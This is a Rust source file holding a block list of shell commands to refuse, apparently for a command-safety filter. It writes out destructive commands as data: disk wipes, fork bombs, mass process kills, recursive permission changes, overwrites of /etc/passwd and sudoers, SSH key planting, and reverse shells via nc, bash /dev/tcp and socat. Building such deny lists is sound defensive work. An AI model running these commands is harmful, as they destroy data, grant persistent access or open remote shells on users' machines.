//! Commands that must never run: what harms the machine, its processes, its settings and its people.

/// Refused, wherever they are typed.
pub(super) const REFUSED: &str = r"
mkfs.ext4 /dev/sda1
mkfs -t ext4 /dev/sdb
mke2fs /dev/sda
wipefs -a /dev/sda
fdisk /dev/sda
sfdisk --delete /dev/sda
parted /dev/sda rm 1
blkdiscard /dev/nvme0n1
mkswap /dev/sda2
dd if=/dev/zero of=/dev/sda
dd if=/dev/urandom of=/dev/nvme0n1 bs=1M
dd of=/dev/sda if=x
dd if=x of=/etc/passwd
cat x > /dev/sda
echo x > /dev/sda1
cp x /dev/sda
tee /dev/sda < x
echo 1 > /proc/sysrq-trigger
echo b | tee /proc/sysrq-trigger
echo 1 > /sys/power/state
shutdown -h now
shutdown now
reboot
halt -p
poweroff
init 0
init 6
telinit 6
systemctl poweroff
systemctl reboot
systemctl isolate rescue.target
/sbin/reboot
sudo reboot
:(){ :|:& };:
:() { : | : & }; :
bomb() { bomb | bomb & }; bomb
f(){ f|f& };f
kill -9 -1
kill -1
kill -KILL -1
kill -s KILL -- -1
kill -9 1
killall5
killall5 -9
pkill -u user
pkill -9 -u $USER
pkill -U 1000
killall -u user
pkill -9 .
pkill -f '.*'
killall -r '.*'
ps aux | awk '{print $2}' | xargs kill -9
chmod -R 777 /
chmod -R 000 ~
chmod --recursive 777 /etc
chmod -R 777 ..
chmod 777 /etc/shadow
chown -R user /
chown -R user:user /usr
chown --recursive nobody ~
chgrp -R x /var
chmod -R 777 /home/user/projects
> /etc/passwd
echo x > /etc/hosts
echo x >> /etc/sudoers
: > /etc/fstab
echo x >| /etc/hosts
cat x &> /etc/hosts
tee /etc/passwd < x
echo x | tee -a /etc/sudoers
cp x /etc/passwd
cp -f x /usr/bin/ls
mv x /etc/passwd
mv / /dev/null
mv ~ /tmp/x
mv ~/* /dev/null
mv demo /dev/null
mv /etc/passwd x
mv ../../work x
ln -sf x /etc/passwd
ln -sf /bin/true /bin/ls
install -m 755 x /usr/local/bin/x
sed -i s/a/b/ /etc/passwd
sed -i.bak 's/a/b/' /etc/ssh/sshd_config
truncate -s 0 /etc/passwd
truncate -s0 /var/log/syslog
echo x >> ~/.bashrc
echo key >> ~/.ssh/authorized_keys
cp x ~/.profile
wget -O /etc/passwd https://x.test
curl -o /etc/cron.d/x https://x.test
rsync -a --delete empty/ /
rsync -a --delete x/ ~/
rsync --delete -r x/ ../
crontab -r
echo x > /etc/cron.d/x
useradd x
userdel -r user
passwd root
usermod -aG sudo user
visudo
iptables -F
sysctl -w kernel.panic=1
rmmod x
insmod x.ko
mount /dev/sda1 x
umount -a
swapoff -a
chattr -i /etc/passwd
apt-get remove --purge bash
docker run -v /:/h alpine rm -rf /h
docker run --rm -v /:/mnt alpine sh
nc -e /bin/sh 10.0.0.1 4444
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
socat TCP:10.0.0.1:1 EXEC:/bin/sh
";
